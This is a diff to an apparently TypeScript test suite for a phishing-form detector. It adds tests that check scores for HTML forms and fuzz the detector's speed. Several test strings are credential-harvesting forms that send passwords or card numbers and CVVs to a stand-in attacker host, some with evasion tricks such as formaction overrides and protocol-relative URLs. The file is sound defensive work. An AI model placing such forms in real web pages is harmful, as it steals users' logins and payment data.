@@ -70,7 +70,46 @@ test('code is left out, and looked at where that is asked for', async () => {
   expect(await inside(inspectedText('`<script>x()</script>`'), { point: 'output' })).toHaveLength(1)
 })
 
+const surest = async (text: string) => Math.max(0, ...(await found(text)).map(({ score }) => score))
+
+test.each([
+  '<form action="https://evil.example/a"><p>Password</p><input type=password></form>',
+  '<FORM ACTION=//evil.example>\n<input name="user"><input\ntype="PASSWORD">',
+  '<form action="https://evil.example/"><input name="card_number"><input name=cvv></form>',
+  '<form action="/login"><input type=password><button formaction="https://evil.example">Go</button></form>',
+  '<form action="/a"></form><form action="\\\\evil.example"><input type=password>',
+])('a form that sends a password to another site passes no preset: %s', async (text) => {
+  expect(await surest(text)).toBeGreaterThanOrEqual(0.75)
+})
+
+test.each([
+  '<form action="/login"><input type=password></form>',
+  '<form action="https://www.example.com/search"><input name=q></form>',
+  '<form action="https://shop.example/a"><input name=q></form><form action="/login"><input type=password></form>',
+  '<form action="https://shop.example/a"></form><input type=password>',
+  '<form action="/login"><input type=password></form><button formaction="https://shop.example/a">Buy</button>',
+])('a form of the site itself, and one without a password, do: %s', async (text) => {
+  expect(await surest(text)).toBeLessThan(0.7)
+})
+
+test.each([
+  '<form action=//a>',
+  '<input type=password>',
+  '<form action=//a><input type=password>',
+  '<button formaction=//a>',
+])(
+  '%j many times over is read in bounded time',
+  async (unit) => {
+    await found(unit.repeat(200_000 / unit.length))
+  },
+  20_000,
+)
+
 const piece = fc.constantFrom(
+  '<form action="//a">',
+  '<input type=password>',
+  '</form>',
+  '<button formaction=//a>',
   '<script>',
   '<img src="',
   'a>b',
